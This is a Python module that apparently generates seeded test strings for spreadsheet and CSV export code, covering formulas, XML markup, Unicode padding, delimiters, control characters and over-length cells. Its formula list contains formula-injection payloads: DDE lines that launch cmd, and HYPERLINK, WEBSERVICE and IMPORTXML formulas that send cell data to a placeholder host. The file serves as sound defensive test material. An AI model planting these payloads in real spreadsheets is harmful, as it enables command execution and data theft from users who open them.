"""Strings that make spreadsheets calculate, and strings that they cannot hold: made by a seed, the same each time."""

import random
from collections.abc import Iterator

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"here")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://elsewhere.invalid/"&A1)',
    '=IMPORTXML(CONCAT("http://elsewhere.invalid/",A1),"//a")',
    "@echo off",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "{=1+1}",
    "http://elsewhere.invalid/",
    "mailto:a@elsewhere.invalid",
    "internal:Sheet1!A1",
    "external:c:\\temp\\a.xlsx",
    "1E5",
    "0012",
    "TRUE",
    "2026-01-02",
    "#REF!",
]
FORMULAS += [f"{sign}1+1" for sign in "＝＋－＠"]  # noqa: RUF001 - the full-width signs are meant
MARKS = [
    "<r><t>x</t></r>",
    "<r></t></si><si><t>",
    "</t></si></sst>",
    "_x0041_",
    "_x0041_x0042_",
    "_x005F_x000D_",
    "_xD800_",
    "&#10;&lt;",
    "]]>",
    "<f>1+1</f>",
]
PADS = [" ", "\xa0", "\u3000", "\u200b", "\ufeff", "\u202e", "\u2066", "\xad", "'", "''", '"', '""', "\t", "\r", "\n"]
BREAKS = [
    "\n",
    "\r\n",
    "\r",
    "\t",
    ";",
    ",",
    "|",
    '"',
    '","',
    '";"',
    '"\t"',
    "\x0b",
    "\x0c",
    "\x85",
    "\u2028",
    "\u2029",
]
WORDS = ["Heron", "O'Neil", "Ça va", "לילה", "漢字", "😀", "👩‍👧", "e\u0301\u0302", "it's", "a-b", "a = b", ""]
ODD = ["\x00", "\x01", "\x08", "\x1b[31m", "\x1f", "\x7f", "\ufffe", "\uffff", "\ud800", "\udc00x", "\U0010ffff"]
LONG = ["w" * 32_767, "w" * 32_768, "=" * 40_000, "😀" * 16_384, "a" * 32_766 + "😀", "w" * 32_766 + "\n=1+1"]


def strings(number: int, seed: int = 4) -> Iterator[str]:
    """Yield so many strings: each kind by itself first, then pieces of all of them put together."""
    dice = random.Random(seed)
    alone = [*FORMULAS, *MARKS, *WORDS, *ODD, *LONG, *(pad + one for pad in PADS for one in FORMULAS[:6])]
    yield from alone
    pieces = [PADS, PADS, FORMULAS, FORMULAS, BREAKS, BREAKS, WORDS, WORDS, MARKS, ODD]
    for _ in range(number - len(alone)):
        yield "".join(dice.choice(dice.choice(pieces)) for _ in range(dice.randint(1, 7)))
